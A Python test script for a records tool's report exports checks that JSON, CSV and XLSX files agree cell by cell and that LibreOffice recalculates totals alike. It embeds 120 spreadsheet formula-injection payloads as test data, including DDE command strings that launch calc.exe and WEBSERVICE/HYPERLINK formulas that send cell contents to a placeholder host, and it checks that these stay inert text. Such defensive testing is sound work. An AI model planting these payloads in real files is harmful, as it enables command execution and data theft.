#!/usr/bin/env python3
"""Every report as a file, read back by programs that share no code with the writer: openpyxl and LibreOffice.

usage: check_xlsx.py ZHUCUN ZHUCUN_BENCH      needs python3-openpyxl and libreoffice-calc-nogui
Makes a demo city of 12 villages, enters texts that spreadsheets would run as unit names, and exports each report as
JSON, ndjson, CSV and XLSX. XLSX and CSV must hold what JSON says, cell by cell and typed; totals must be formulas that
LibreOffice, which calculates everything anew, finds equal to their stored values; page set-up, frozen and
repeated header and the verification code must be there, and the code must verify. 120 hostile texts must come out as
text in both formats. Prints counts; status 1 when anything differs.
"""
import concurrent.futures
import csv
import datetime
import io
import json
import pathlib
import re
import subprocess
import sys
import tempfile
import zipfile

import openpyxl

ZHUCUN, BENCH = (str(pathlib.Path(p).resolve()) for p in sys.argv[1:3])
AS_OF = "2026-06-30"
COUNTY = "610802000000"
NEEDED = {"working_days": ["--from", "2021-08-30", "--days", "30"], "person_timeline": ["--who", "person:P00001"],
          "change_effects": ["--who", "person:P00001", "--from", "2026-06-30", "--kind", "health"],
          "fund_ledger": ["--division", COUNTY], "reconciliation_statement": ["--division", COUNTY],
          "outstanding_items": ["--division", COUNTY], "match_proposals": ["--division", COUNTY],
          "duty_compliance": ["--period", "2025", "--by", "county"], "duty_list": ["--period", "2025"],
          "fund_bridge": ["--period", "2025"], "fund_due": ["--period", "2025"],
          "attendance_days": ["--period", "2025"], "attendance_month": ["--period", "2025-05"],
          "check_plan": ["--division", COUNTY, "--period", "2025Q4", "--seed", "s", "--count", "2"],
          "reminder_drafts": ["--who", "office:610800000000"],
          "report_draft": ["--who", f"office:{COUNTY}", "--period", "2025"],
          "allowance_statement": ["--who", "person:P00001", "--period", "2025"]}
# LibreOffice in a folder of its own, told to calculate every formula anew.
RECALCULATE = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry"><item oor:path="/org.openoffice.Office.Calc/Formula/Load">
<prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop></item></oor:items>"""

faults, counts = [], {}


def count(what, number=1):
    counts[what] = counts.get(what, 0) + number


def expect(good, *place):
    if not good:
        faults.append(" ".join(str(p) for p in place)[:400])
    return good


def hostile_texts():
    """120 texts: 12 bodies behind 10 starts, each a formula, a command or a lure to one."""
    bodies = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.invalid/?"&A1,"点我")', 'IMPORTXML("http://x.invalid","//a")',
              "SUM(1+1)*cmd|' /C calc'!A0", 'WEBSERVICE("http://x.invalid/"&A2)', "DDE(\"soffice\";\"a\";\"b\")", "A1",
              "2+5+cmd|'/C calc'!A0", "MSEXCEL|'\\..\\..\\calc.exe'!''", 'CALL("a","b")', '1;=1+1\t=2+2,=3+3']
    starts = ["=", "+", "-", "@", "＝", "＋", " \u3000=", "\t=", "甲单位\n=", "\"="]
    return [start + body for body in bodies for start in starts]


def raw_texts():
    """What the book itself does not let in, for the writers alone."""
    return [start + "1+1" for start in ["\r=", "\0=", "\n\r\n@", "甲\r\n＝", "\v=", "－", "＠", "\ufeff=", "\u200b+", "_x003D_", "'="]]


def run(book, *arguments):
    return subprocess.run([ZHUCUN, "--disk-floor", "64", "--book", book, *arguments], capture_output=True)


def make_book(folder):
    book = str(folder / "book")
    subprocess.run([ZHUCUN, "demo", "--villages", "12", "--seed", "1", "--disk-floor", "64", "--book", book], check=True,
                   capture_output=True)
    batch = json.loads(run(book, "report", "payout_batches", "-O", "json").stdout)["rows"][0]["key"].split("@")
    NEEDED["payout_sheet"] = ["--who", f"unit:{batch[0]}", "--kind", batch[1]]
    village = json.loads(run(book, "report", "roster", "--as-of", AS_OF, "-O", "json").stdout)["rows"][0]["cells"][2]
    entered = 0
    for i, text in enumerate(hostile_texts()):
        unit = {"unit": f"X{i}", "name": text, "level": "county", "kind": "government", "seat": COUNTY}
        stay = {"person": f"PX{i}", "unit": f"X{i}", "village": village, "role": "member", "document": "示例〔2026〕1号"}
        events = [("unitRegistered", unit), ("personRegistered", {"person": f"PX{i}"}), ("postingStarted", stay)]
        lines = [json.dumps({"id": f"{i}/{n}", "type": kind, "date": "2026-06-01", "actor": "x", "data": data})
                 for n, (kind, data) in enumerate(events)]
        with open(folder / "lines.ndjson", "a", encoding="utf8") as out:
            out.write("\n".join(lines) + "\n")
        entered += 1
    done = run(book, "submit", str(folder / "lines.ndjson"))
    expect(done.returncode == 0, "the book refused a text:", done.stderr.decode())
    return book, entered


def unescaped(text):
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), text)


def in_cell(text):
    return text.replace("\0", "␀").replace("\r\n", "\n").replace("\r", "\n")


def read_cell(value):
    return in_cell(unescaped(value)) if isinstance(value, str) else value


def agrees(kind, said, why, cell):
    """Whether a cell holds what JSON says of it, typed."""
    value = read_cell(cell.value)
    if said is None or said == "":
        return value == (f"（{why}）" if why else None) or (value is None and not why)
    if isinstance(said, str) and kind != "date":
        return cell.data_type == "s" and value == in_cell(said) and cell.number_format == "@"
    if kind == "fen":
        return cell.data_type == "n" and round(value * 100) == said and abs(value * 100 - said) < 1e-4 \
            and cell.number_format == "#,##0.00"
    if kind == "date":
        return isinstance(value, datetime.datetime) and value.date().isoformat() == said \
            and cell.number_format == "yyyy-mm-dd"
    if kind == "rate":
        return cell.data_type == "n" and abs(value * 100 - said) < 1e-9 and cell.number_format == "0.00%"
    return cell.data_type == "n" and value == said


def check_print(name, sheet, header):
    set_up = sheet.page_setup
    expect((set_up.paperSize, set_up.fitToWidth or 1, set_up.fitToHeight) == (9, 1, 0), name, "is not A4, one page wide")
    expect(sheet.sheet_properties.pageSetUpPr.fitToPage, name, "does not fit a page")
    expect(sheet.print_title_rows == f"${header}:${header}", name, "does not repeat its header", sheet.print_title_rows)
    expect(sheet.freeze_panes == f"B{header + 1}", name, "header not frozen", sheet.freeze_panes)
    found = re.search(r"截至序号 (\d+) · 核验码 (\d+-[0-9a-f]{20})$", sheet.oddFooter.left.text)
    expect(found and "&P" in sheet.oddFooter.right.text and "&N" in sheet.oddFooter.right.text, name, "has no footer")
    return found[2] if found else ""


def check_xlsx(name, table, path):
    book, stored = openpyxl.load_workbook(path), openpyxl.load_workbook(path, data_only=True)
    expect(book.sheetnames == [table["title"], "说明"], name, book.sheetnames)
    sheet, values = book.worksheets[0], stored.worksheets[0]
    columns = table["columns"]
    header = next(r for r in range(1, 6) if sheet.cell(r, 1).font.b and sheet.cell(r, 1).border.left.style == "thin")
    expect([sheet.cell(header, c + 1).value for c in range(len(columns))] == [c["title"] for c in columns], name, "header")
    for r, row in enumerate(table["rows"]):
        for c, said in enumerate(row["cells"]):
            cell = sheet.cell(header + 1 + r, c + 1)
            why = row.get("why", {}).get(columns[c]["name"])
            expect(agrees(columns[c]["kind"], said, why, cell), name, cell.coordinate, repr(said), repr(cell.value))
            count("XLSX cells as in JSON")
    last = header + len(table["rows"])
    totals = []
    for c, said in enumerate(table.get("totals", {}).get("cells", [])):
        cell = sheet.cell(last + 1, c + 1)
        if cell.data_type == "f":
            letter = cell.column_letter
            span = f"{letter}{header + 1}" + (f":{letter}{last}" if last > header + 1 else "")
            expect(cell.value == f"=SUM({span})", name, "total", cell.value)
            kind = columns[c]["kind"]
            value = values[cell.coordinate].value
            expect(value is not None and round(value * (100 if kind == "fen" else 1), 6) == said, name, "stored total", said, value)
            totals.append((cell.coordinate, kind, said))
        elif said not in (None, ""):
            expect(agrees(columns[c]["kind"], said, None, cell) or cell.value == said == "合计", name, "total",
                   cell.coordinate, said, cell.value)
    formulas = sum(cell.data_type == "f" for ws in book for row in ws.iter_rows() for cell in row)
    expect(formulas == len(totals), name, f"{formulas} formulas, {len(totals)} totals")
    count("totals as formula and value", len(totals))
    code = check_print(name, sheet, header)
    basis = {row[0].value: row[1].value for row in book["说明"].iter_rows(min_row=3) if row[0].value}
    expect(basis.get("核验码") == code and basis.get("截至") == AS_OF, name, "sheet 说明", basis)
    return totals, basis.get("参数", ""), code


def marked(text):
    """The rule for CSV, written again: an apostrophe before every line that would start a formula."""
    out = []
    for line in re.split(r"(?<=\n)|(?<=\r)(?!\n)", text):
        bare = re.sub("^[ \"'\u00a0\u3000\u200b\u200c\u200d\u2060\ufeff\v\f]+", "", line)
        out.append(("'" if re.match("[=+\\-@\t\r\0＝＋－＠]", bare) else "") + line)
    return "".join(out)


def check_csv(name, table, data, gb18030):
    text = data.decode("utf-8-sig")
    expect(data.startswith(b"\xef\xbb\xbf"), name, "CSV without BOM")
    expect(gb18030.decode("gb18030") == text, name, "GB18030 differs")
    lines = list(csv.reader(io.StringIO(text, newline="")))
    rows = table["rows"] + ([table["totals"]] if "totals" in table else [])
    expect(len(lines) == 1 + len(rows), name, "CSV rows", len(lines), len(rows))
    for line, row in zip(lines[1:], rows):
        for c, said in enumerate(row["cells"]):
            column = table["columns"][c]
            why = row.get("why", {}).get(column["name"])
            if said is None:
                wanted = f"（{why}）" if why else ""
            elif column["kind"] == "fen" and not isinstance(said, str):
                wanted = f"{'-' if said < 0 else ''}{abs(said) // 100}.{abs(said) % 100:02}"
            elif column["kind"] == "rate" and not isinstance(said, str):
                wanted = f"{said:.2f}%"
            elif column["kind"] == "date" or not isinstance(said, str):
                wanted = str(said)
            else:
                wanted = marked(said)
            expect(line[c] == wanted, name, "CSV", repr(line[c]), repr(wanted))
            count("CSV cells as in JSON")


def check_report(book, folder, name):
    ask = ["report", name, *NEEDED.get(name, []), "--as-of", AS_OF]
    table = json.loads(run(book, *ask, "-O", "json").stdout)
    lines = run(book, *ask, "-O", "ndjson").stdout.decode()
    data = run(book, *ask, "-O", "csv").stdout
    path = folder / "in" / f"{name}.xlsx"
    done = run(book, *ask, "-O", "xlsx", "--out", str(path))
    if not expect(done.returncode == 0, name, done.stderr.decode()):
        return name, [], path
    (folder / "in" / f"{name}-csv.csv").write_bytes(data)
    names = [c["name"] for c in table["columns"]]
    expect([json.loads(line) for line in lines.splitlines()] == [dict(zip(names, r["cells"])) for r in table["rows"]],
           name, "ndjson differs")
    totals, address, code = check_xlsx(name, table, path)
    check_csv(name, table, data, run(book, *ask, "-O", "csv", "--charset", "gb18030").stdout)
    good = run(book, "report", address, "--check", code)
    wrong = run(book, "report", address, "--check", code[:-1] + ("0" if code[-1] != "0" else "1"))
    expect(good.returncode == 0 and wrong.returncode == 1, name, "--check", good.stderr.decode(), wrong.stdout.decode())
    count("verification codes verified")
    return name, totals, path


def canaries(folder):
    """Files that LibreOffice must calculate, so that zero formulas elsewhere means something."""
    book = openpyxl.Workbook()
    book.active["A1"] = "=1+1"
    book.save(folder / "plain.xlsx")
    with zipfile.ZipFile(folder / "plain.xlsx") as old, zipfile.ZipFile(folder / "in/canary.xlsx", "w") as new:
        for item in old.namelist():
            new.writestr(item, re.sub(rb"<v ?/>|<v></v>", b"<v>7</v>", old.read(item)))
    (folder / "in/canary-csv.csv").write_bytes(b"\xef\xbb\xbf\xe7\x94\xb2,b\r\n=1+1,-1.05\r\n")


def recalculated(folder):
    """All files as LibreOffice reads and calculates them: one run for XLSX, one for CSV, which needs a charset."""
    profile = folder / "profile"
    (profile / "user").mkdir(parents=True)
    (profile / "user/registrymodifications.xcu").write_text(RECALCULATE)
    start = ["soffice", "--headless", f"-env:UserInstallation=file://{profile}", "--convert-to", "xlsx", "--outdir",
             str(folder / "out")]
    # Comma, quote, UTF-8, from line 1; numbers and formulas are recognised.
    for suffix, how in [(".xlsx", []), (".csv", ["--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true"])]:
        files = sorted(str(p) for p in (folder / "in").iterdir() if p.suffix == suffix)
        done = subprocess.run([*start, *how, *files], capture_output=True, timeout=300)
        expect(done.returncode == 0, "soffice", done.stderr.decode())
    return {path.stem: (openpyxl.load_workbook(path), openpyxl.load_workbook(path, data_only=True))
            for path in (folder / "out").iterdir()}


def formulas_in(book):
    return [cell.coordinate for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def check_recalculated(books, reports):
    canary = books["canary"][1].worksheets[0]["A1"].value
    expect(canary == 2, "LibreOffice did not calculate anew:", canary)
    expect(formulas_in(books["canary-csv"][0]) == ["A2"], "LibreOffice takes no formula from CSV: nothing is proven")
    for name, totals, path in reports:
        for coordinate, kind, said in totals:
            value = books[name][1].worksheets[0][coordinate].value
            scaled = value * 100 if kind == "fen" else value
            expect(abs(scaled - said) < 1e-4, name, coordinate, "recalculated", value, "for", said)
            count("totals recalculated alike")
        expect(sorted(formulas_in(books[name][0])) == sorted(t[0] for t in totals), name, "formulas after LibreOffice")
        found = formulas_in(books[f"{name}-csv"][0])
        expect(found == [], name, "CSV formulas", found)
        count("files recalculated", 2)


def check_hostile(books, entered):
    """The texts as LibreOffice read them: in the roster, and of the writers alone."""
    texts = hostile_texts()
    expect(entered == len(texts) == len(set(texts)) == 120, "not 120 texts")
    for kind in ["roster", "roster-csv"]:
        cells = [read_cell(cell.value) for row in books[kind][0].worksheets[0].iter_rows() for cell in row
                 if cell.data_type == "s"]
        for text in texts:
            wanted = text if kind == "roster" else marked(text)
            found = wanted in cells
            expect(found, kind, "lacks", repr(wanted))
            count(f"hostile texts as text in {kind}", int(found))
    for kind in ["raw", "raw-csv"]:
        expect(formulas_in(books[kind][0]) == [], kind, "formulas", formulas_in(books[kind][0]))
        sheet = books[kind][1].worksheets[0]
        numbers = [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "n" and cell.value is not None]
        lines = len(texts) + len(raw_texts())
        expect(numbers.count(-1.05) == lines, kind, "negative numbers", numbers.count(-1.05), "of", lines)
        count("hostile texts past the book, 0 formulas", lines)


def check_form(path):
    """A form to be filled in: lists, notes, what may be changed, what is hidden."""
    book, stored = openpyxl.load_workbook(path), openpyxl.load_workbook(path, data_only=True)
    sheet, twin, lists = book.worksheets
    checks = [
        (sheet.title == "填报_1__示例：名称很长很长很长很长很长很长很长很长很长很长"[:31], sheet.title),
        (twin.title != sheet.title and len(twin.title) <= 31, twin.title),
        ([s.sheet_state for s in book] == ["visible", "hidden", "hidden"], book.sheetnames),
        (sorted(r.coord for r in sheet.merged_cells.ranges) == ["A11:F11", "A1:F1", "A2:F2", "A3:F3"], "merged lines"),
        ([c.value for c in sheet[4]] == ["编号", "*金额", "类别", "是否", "单位", "内部"], "header"),
        ((sheet.freeze_panes, sheet.page_setup.orientation) == ("C5", "portrait"), sheet.freeze_panes),
        (sheet.protection.sheet and not sheet.protection.password, "protection"),
        ([c.protection.locked for c in sheet[5]] == [True, False, False, False, False, True], "locks of a row"),
        ([c.protection.locked for c in sheet[10]] == [True] * 6, "locks of the totals"),
        ([c.protection.locked for c in sheet[9]] == [True, False, False, False, False, True], "locks of a spare row"),
        (sheet.column_dimensions["F"].hidden and not sheet.column_dimensions["A"].hidden, "hidden column"),
        ((sheet["A5"].value, sheet["A6"].value) == ("0012", "610802000000000001"), "ids"),
        ((sheet["B5"].value, sheet["B6"].value, sheet["B7"].value) == (-0.07, "10000000000000.00", "待定"), "money"),
        (unescaped(sheet["C6"].value.replace("_x005F_", "_", 1)) == "A" and sheet["C6"].value == "_x005F_x0041_", sheet["C6"].value),
        ((sheet["D5"].value, sheet["D6"].value) == ("是", "否"), "yes and no"),
        ((sheet["F5"].value, sheet["F5"].data_type, sheet["F6"].value) == ("=1+1", "s", "1900-01-01"), "text"),
        (len(sheet["A7"].value) <= 32767 and sheet["A7"].value.endswith("后文未导出）"), "a long text is cut in silence"),
        ((sheet["A10"].value, sheet["B10"].value) == ("合计", "=SUM(B5:B9)"), "totals"),
        (stored.worksheets[0]["B10"].value == -0.07, stored.worksheets[0]["B10"].value),
        ([lists.cell(i + 1, 1).value for i in range(200)] == [f"单位{i}" for i in range(200)], "long list"),
        (sheet.oddFooter.left.text.replace("&&", "&").endswith("截至序号 1 & 示例"), sheet.oddFooter.left.text),
        (book.properties.creator == "示例办公室", book.properties.creator),
    ]
    rules = {" ".join(r.coord for r in rule.sqref.ranges): rule for rule in sheet.data_validations.dataValidation}
    checks += [(rules["C5:C9"].formula1 == '"甲,乙"', "short list"), (rules["D5:D9"].formula1 == '"是,否"', "yes, no"),
               (rules["E5:E9"].formula1 == f"'{lists.title}'!$A$1:$A$200", rules["E5:E9"].formula1),
               (rules["B5:B9"].prompt == "填到分", "note")]
    for good, what in checks:
        expect(good, "form:", what)
        count("checks of a form")


def main():
    with tempfile.TemporaryDirectory() as scratch:
        folder = pathlib.Path(scratch)
        (folder / "in").mkdir()
        book, entered = make_book(folder)
        names = re.search("可用 (.*)", run(book, "report", "no_such").stderr.decode())[1].split()
        (folder / "hex").write_text("".join(t.encode().hex() + "\n" for t in hostile_texts() + raw_texts()))
        subprocess.run([BENCH, "cells", str(folder / "hex"), str(folder / "in/raw")], check=True)
        (folder / "in/raw.csv").rename(folder / "in/raw-csv.csv")
        subprocess.run([BENCH, "form", str(folder / "form.xlsx")], check=True)
        check_form(folder / "form.xlsx")
        canaries(folder)
        with concurrent.futures.ThreadPoolExecutor(2) as pool:
            reports = list(pool.map(lambda name: check_report(book, folder, name), names))
        books = recalculated(folder)
        check_recalculated(books, reports)
        check_hostile(books, entered)
        count("reports", len(names))
    for what, number in counts.items():
        print(f"counted: {what}: {number}")
    for fault in faults[:40]:
        print("FAILED:", fault)
    print(f"{len(faults)} 处不符")
    return 1 if faults else 0


if __name__ == "__main__":
    sys.exit(main())
